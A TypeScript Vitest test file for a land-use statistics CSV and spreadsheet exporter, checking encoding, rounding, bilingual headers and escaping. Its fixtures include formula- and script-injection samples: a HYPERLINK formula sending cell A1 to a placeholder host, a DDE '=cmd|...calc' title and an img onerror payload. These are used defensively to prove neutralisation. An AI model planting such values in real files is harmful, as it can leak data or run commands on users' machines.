import { deepFreeze } from '../../fixtures/deep-freeze.ts';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { LandUseTable } from '../../../src/analysis/land-use-types.ts';
import { BYTE_ORDER_MARK, landUseTableToCsv, numberCell, textCell } from '../../../src/export/csv.ts';
import { landUseSheet, roundTo } from '../../../src/export/statistics-sheet.ts';
import { convertArea } from '../../../src/geo/units.ts';

const HOSTILE_NAMES = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  '<img src=x onerror=alert(1)>',
  'say "hello", then, leave',
  'two\r\nlines\nhere',
  '+1',
  '-2',
  '@SUM(A1:A2)',
  '\tTAB',
  'Lot #3',
  '# not a comment',
];

/** Areas with many digits, a null key and null green figures: what real tables hold. */
const TABLE: LandUseTable = deepFreeze({
  source: { kind: 'imported', layerId: 'layer-1' },
  groupedBy: 'landuse',
  rows: [
    {
      key: '工业用地',
      areaM2: 1234567.8912345679,
      share: 0.4123456789012345,
      count: 12,
      greenAreaM2: 23456.789012345,
      greenSpaceRatio: 0.0190001234567,
    },
    {
      key: null,
      areaM2: 987654.3210987,
      share: 0.3298765432109876,
      count: 3,
      greenAreaM2: null,
      greenSpaceRatio: null,
    },
    ...HOSTILE_NAMES.map((key, index) => ({
      key,
      areaM2: 1000.1 + index / 3,
      share: (1000.1 + index / 3) / 2994000.123,
      count: 1,
      greenAreaM2: 0,
      greenSpaceRatio: 0,
    })),
    { key: '微小', areaM2: 1.5e-7, share: 5e-14, count: 1, greenAreaM2: null, greenSpaceRatio: null },
  ],
  totalAreaM2: 2994000.123,
  denominatorM2: 2994000.123,
  denominator: { zh: '所有类别面积之和', en: 'sum of all categories' },
  method: { zh: 'WGS84 椭球面积，按类别求和。', en: 'WGS84 ellipsoidal area, summed per category, with commas.' },
  notes: [
    { zh: '重叠要素在各类别中分别计入。', en: 'Overlapping features count in each category.' },
    { zh: '文件名 "a,b"\n换行', en: 'file "a,b"\nnewline' },
  ],
  featureCount: 27,
  skipped: { points: 2, lines: 1, nullGeometries: 4 },
});

type Record = { [column: string]: string };

function parseBack(text: string): Record[] {
  // No options a plain reader would not use: no comment skipping, no relaxed column counts.
  return parse(text, { bom: true, columns: true }) as Record[];
}

const DECIMAL_PLACES = (text: string): number => (text.includes('.') ? text.split('.')[1]!.length : 0);

describe('land-use table as CSV', () => {
  const zh = landUseTableToCsv(TABLE, { language: 'zh', sourceTitle: '=cmd|"/c calc"!A0 导入.geojson' });
  const en = landUseTableToCsv(TABLE, { language: 'en', sourceTitle: 'parcels.geojson' });

  it('starts with a UTF-8 byte-order mark and ends every record with CRLF', () => {
    expect(zh.startsWith(BYTE_ORDER_MARK)).toBe(true);
    expect(new TextEncoder().encode(zh).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(zh.endsWith('\r\n')).toBe(true);
    // Every LF outside a quoted cell is preceded by CR: parse with CRLF as the only record delimiter.
    const strict = parse(zh, { bom: true, record_delimiter: '\r\n', relax_column_count: false });
    expect(strict.length).toBe(TABLE.rows.length + 1);
  });

  it('is a plain table: the first record is the header and every record has its column count', () => {
    for (const text of [zh, en]) {
      const records = parse(text, { bom: true }) as string[][];
      expect(records[0]).toEqual(
        text === zh
          ? [
              '类别',
              '面积（m²）',
              '面积（公顷）',
              '面积（km²）',
              '面积（亩）',
              '占比（0–1）',
              '要素数',
              '绿地面积（m²）',
              '绿地率（0–1）',
              '类别取值',
            ]
          : [
              'category',
              'area (m²)',
              'area (ha)',
              'area (km²)',
              'area (mu, 亩)',
              'share (0–1)',
              'features',
              'green area (m²)',
              'green-space ratio (0–1)',
              'category value',
            ],
      );
      expect(records).toHaveLength(TABLE.rows.length + 1);
      for (const record of records) expect(record).toHaveLength(records[0]!.length);
      // Nothing of the caption leaks into the table: it lives in the .xlsx 说明 sheet.
      expect(text).not.toContain('#,');
      expect(text).not.toContain(TABLE.method.zh);
    }
  });

  it('reads back to the table figures rounded to a sensible precision in every unit', () => {
    const records = parseBack(en);
    expect(records).toHaveLength(TABLE.rows.length);
    const near = (text: string, value: number, decimals: number) => {
      expect(DECIMAL_PLACES(text)).toBeLessThanOrEqual(decimals);
      expect(Math.abs(Number(text) - value)).toBeLessThanOrEqual(0.5 * 10 ** -decimals * (1 + 1e-9));
    };
    records.forEach((record, index) => {
      const row = TABLE.rows[index]!;
      near(record['area (m²)']!, row.areaM2, 1);
      near(record['area (ha)']!, convertArea(row.areaM2, 'm2', 'ha'), 4);
      near(record['area (km²)']!, convertArea(row.areaM2, 'm2', 'km2'), 6);
      near(record['area (mu, 亩)']!, convertArea(row.areaM2, 'm2', 'mu'), 3);
      near(record['share (0–1)']!, row.share!, 6);
      expect(Number(record['features'])).toBe(row.count);
      if (row.greenAreaM2 === null) expect(record['green area (m²)']).toBe('');
      else near(record['green area (m²)']!, row.greenAreaM2, 1);
      if (row.greenSpaceRatio === null) expect(record['green-space ratio (0–1)']).toBe('');
      else near(record['green-space ratio (0–1)']!, row.greenSpaceRatio, 6);
    });
    // Long binary tails are gone: 1234567.8912345678 m² is written as 1234567.9.
    expect(records[0]!['area (m²)']).toBe('1234567.9');
    expect(records.at(-1)!['area (m²)']).toBe('0');
  });

  it('heads the columns in the chosen language', () => {
    expect(parseBack(zh)[1]!['类别']).toBe('（无此属性）');
    expect(parseBack(en)[1]!['category']).toBe('(no value)');
    expect(parseBack(zh)[1]!['类别取值']).toBe('');
  });

  it("writes the category's shown name and, beside it, the value the data holds", () => {
    const text = landUseTableToCsv(TABLE, {
      language: 'en',
      sourceTitle: 'zone',
      categoryName: (key) => (key === null ? '(no value)' : `name of ${key}`),
    });
    const records = parseBack(text);
    expect(records.map((record) => record['category'])).toEqual(
      TABLE.rows
        .map((row) => (row.key === null ? '(no value)' : `name of ${row.key}`))
        .map((name) => (/^[=+\-@\t\r\n]/.test(name) ? `'${name}` : name)),
    );
    expect(records.map((record) => record['category value'])).toEqual(
      TABLE.rows.map((row) => (row.key !== null && /^[=+\-@\t\r\n]/.test(row.key) ? `'${row.key}` : (row.key ?? ''))),
    );
  });

  it('keeps hostile names as text: formulas neutralised by an apostrophe, quotes, commas, newlines and # intact', () => {
    const categories = parseBack(zh).map((record) => record['类别']!);
    for (const name of HOSTILE_NAMES) {
      const startsLikeFormula = /^[=+\-@\t\r\n]/.test(name);
      expect(categories).toContain(startsLikeFormula ? `'${name}` : name);
    }
    // No cell that a spreadsheet reads starts with a formula character, except numbers.
    const cells = (parse(zh, { bom: true }) as string[][]).flat();
    for (const cell of cells) {
      if (/^[=+\-@\t\r\n]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    }
  });
});

describe('land-use table as a sheet: the caption goes to 说明', () => {
  it('carries source, grouping, denominator, total, method and notes as labelled rows', () => {
    const sheet = landUseSheet(TABLE, {
      language: 'zh',
      sourceTitle: '=cmd 导入.geojson',
      exportedAt: '2026-12-01T00:00:00Z',
    });
    const notes = new Map(sheet.notes.map((row) => [row[0], row.slice(1)]));
    expect(notes.get('来源')).toEqual(['=cmd 导入.geojson']);
    expect(notes.get('分组依据')).toEqual(['landuse']);
    expect(notes.get('占比分母（m²）')).toEqual([2994000.1, '所有类别面积之和']);
    expect(notes.get('合计面积（m²）')).toEqual([2994000.1]);
    expect(notes.get('方法')).toEqual(['WGS84 椭球面积，按类别求和。']);
    expect(notes.get('未计面积（点、线、空几何）')).toEqual([2, 1, 4]);
    expect(notes.get('导出时间')).toEqual(['2026-12-01T00:00:00Z']);
    expect(sheet.notes.filter((row) => row[0] === '注').map((row) => row[1])).toEqual([
      '重叠要素在各类别中分别计入。',
      '文件名 "a,b"\n换行',
    ]);
    expect(landUseSheet({ ...TABLE, groupedBy: 'kind' }, { language: 'zh', sourceTitle: 'zone' }).notes[1]).toEqual([
      '分组依据',
      '类型（kind）',
    ]);
  });
});

describe('CSV cells', () => {
  it('writes numbers unquoted, rounded where the sheet rounds them, and nothing for a missing figure', () => {
    expect(numberCell(roundTo(0.1 + 0.2, 6))).toBe('0.3');
    expect(numberCell(roundTo(-0.00001, 1))).toBe('0');
    expect(numberCell(null)).toBe('');
    expect(numberCell(Number.NaN)).toBe('');
  });

  it('quotes every text cell so a # or a comma inside never changes the record', () => {
    expect(textCell('a#b')).toBe('"a#b"');
    expect(textCell('say "hi"')).toBe('"say ""hi"""');
    expect(textCell('=1+1')).toBe(`"'=1+1"`);
    expect(textCell('')).toBe('""');
  });
});
